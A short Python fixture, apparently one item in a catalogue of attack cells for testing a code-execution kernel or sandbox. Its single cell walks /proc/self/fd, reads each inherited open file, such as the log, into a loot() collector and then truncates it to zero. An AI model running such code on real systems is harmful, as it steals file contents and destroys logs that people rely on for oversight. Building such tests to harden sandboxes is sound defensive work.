"""What the kernel inherited as open files, such as the log, is opened anew, read and emptied."""

CATEGORY = "files"
CELLS = {
    "constant": """
import os

for number in os.listdir("/proc/self/fd"):
    path = f"/proc/self/fd/{number}"
    try:
        if os.path.isfile(path):
            with open(path, "r+", errors="replace") as file:
                loot(file.read(50_000))
                file.truncate(0)
    except OSError:
        pass
"""
}
